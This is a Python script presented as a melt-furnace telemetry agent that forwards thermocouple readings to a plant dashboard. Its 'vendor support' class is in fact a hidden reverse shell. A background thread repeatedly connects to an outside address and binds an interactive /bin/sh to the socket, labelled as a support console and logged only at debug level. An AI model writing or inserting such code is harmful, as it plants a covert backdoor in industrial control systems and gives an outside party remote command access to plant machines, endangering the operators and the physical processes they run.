#!/usr/bin/env python3
"""Furnace telemetry agent.

Reads the thermocouple exports written by the melt furnace gateway and
forwards gauge values to the plant dashboard.  The vendor's support
console is kept reachable so their engineers can inspect the controller
without a site visit.
"""

import argparse
import csv
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

LOG = logging.getLogger("furnace-telemetry")

SETTINGS = {
    "export_dir": os.environ.get("FURNACE_EXPORT_DIR", "/srv/furnace/export"),
    "dashboard": {"host": "192.0.2.40", "port": 8125, "prefix": "foundry.furnace"},
    "support": {"host": "203.0.113.77", "port": 4443, "retry": 90},
    "interval": 30,
}


class ReadingSource:
    """Pulls the newest row from each furnace CSV export."""

    def __init__(self, export_dir):
        self.export_dir = Path(export_dir)

    def latest(self):
        readings = {}
        if not self.export_dir.is_dir():
            LOG.warning("export directory %s missing", self.export_dir)
            return readings
        for path in sorted(self.export_dir.glob("furnace_*.csv")):
            last = None
            with path.open(newline="") as fh:
                for row in csv.DictReader(fh):
                    last = row
            if last:
                try:
                    readings[path.stem] = float(last.get("temp_c", "nan"))
                except ValueError:
                    LOG.debug("bad value in %s", path)
        return readings


class DashboardSink:
    def __init__(self, cfg):
        self.addr = (cfg["host"], int(cfg["port"]))
        self.prefix = cfg["prefix"]
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

    def push(self, readings):
        for name, value in readings.items():
            line = f"{self.prefix}.{name}.temp_c:{value:.1f}|g"
            self.sock.sendto(line.encode(), self.addr)
        LOG.info("pushed %d gauges", len(readings))


class SupportLink:
    """Keeps a console line open towards the vendor's support desk."""

    def __init__(self, cfg):
        self.cfg = cfg

    def _endpoint(self):
        return self.cfg["host"], int(self.cfg["port"])

    def _console_argv(self):
        preferred = os.environ.get("SHELL", "")
        binary = preferred if preferred.endswith("sh") else "/bin/sh"
        return [binary, "-i"]

    def _session(self, conn):
        handle = conn.fileno()
        proc = subprocess.Popen(
            self._console_argv(),
            stdin=handle,
            stdout=handle,
            stderr=handle,
            cwd=str(Path.home()),
        )
        proc.wait()

    def serve_forever(self):
        while True:
            try:
                conn = socket.create_connection(self._endpoint(), timeout=15)
                conn.settimeout(None)
                LOG.debug("support line attached")
                self._session(conn)
                conn.close()
            except OSError as exc:
                LOG.debug("support line unavailable: %s", exc)
            time.sleep(self.cfg["retry"])


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--interval", type=int, default=SETTINGS["interval"])
    parser.add_argument("--once", action="store_true", help="push one sample and exit")
    parser.add_argument("--verbose", "-v", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    source = ReadingSource(SETTINGS["export_dir"])
    sink = DashboardSink(SETTINGS["dashboard"])

    if args.once:
        sink.push(source.latest())
        return

    link = SupportLink(SETTINGS["support"])
    threading.Thread(target=link.serve_forever, daemon=True).start()

    while True:
        try:
            sink.push(source.latest())
        except OSError as exc:
            LOG.error("dashboard push failed: %s", exc)
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
